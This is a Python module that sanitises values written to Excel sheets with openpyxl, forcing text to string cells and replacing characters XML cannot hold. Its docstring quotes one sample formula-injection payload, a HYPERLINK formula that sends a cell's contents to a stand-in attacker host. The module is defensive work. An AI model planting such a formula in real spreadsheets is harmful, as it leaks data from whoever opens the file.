"""Writing stored text into Excel workbooks (openpyxl) so that every export opens, and safely.

openpyxl guesses a cell's type from its value: a ``str`` beginning with ``=`` becomes a formula
(a unit's comment ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would run in the
Ministry's Excel) and ``#N/A`` or ``#DIV/0!`` become error cells. And a string holding a
character XML 1.0 cannot carry (U+0000–U+001F except tab, LF and CR; lone surrogates; U+FFFE,
U+FFFF) makes openpyxl raise ``IllegalCharacterError``, so one old comment would fail the whole
export for every reader. :func:`put` writes any value with both fixed: text is always a string
cell (whatever it starts with: ``=``, ``+``, ``-``, ``@``, tab, CR), with the characters XML
cannot hold shown as U+FFFD; numbers, dates and booleans are written as openpyxl writes them.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "MAX_CELL_CHARS",
    "REPLACEMENT",
    "put",
    "put_text",
    "safe_text",
]

REPLACEMENT = "\ufffd"  # what a reader sees where the stored text had an impossible character
MAX_CELL_CHARS = 32_767  # Excel's limit for one cell; openpyxl cuts there too
# Everything outside XML 1.0's Char production.
_NOT_XML = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def safe_text(text: str) -> str:
    """``text`` with every character XML 1.0 cannot hold replaced by U+FFFD (visible, so a
    reader knows something was there), cut to the length one Excel cell holds."""
    return _NOT_XML.sub(REPLACEMENT, text)[:MAX_CELL_CHARS]


def put_text(cell: Cell, text: str) -> Cell:
    """Set ``cell`` to ``text`` as a string cell: never a formula, never an error value."""
    cell.value = safe_text(text)
    cell.data_type = "s"  # openpyxl made "=…" a formula and "#N/A" an error; undo its guess
    return cell


def put(ws: Worksheet, row: int, column: int, value: Any = None) -> Cell:
    """Cell (row, column) of ``ws`` holding ``value``: text through :func:`put_text`, anything
    else as openpyxl writes it, None leaves the cell empty. Use it for every value a person
    wrote (comments, titles, names, codes) and for anything read back from storage. None and
    the empty string leave the cell as it is (empty, in a new sheet), as ``ws.cell`` does."""
    cell = ws.cell(row, column)
    if isinstance(value, str):
        return put_text(cell, value) if value else cell
    if value is not None:
        cell.value = value
    return cell
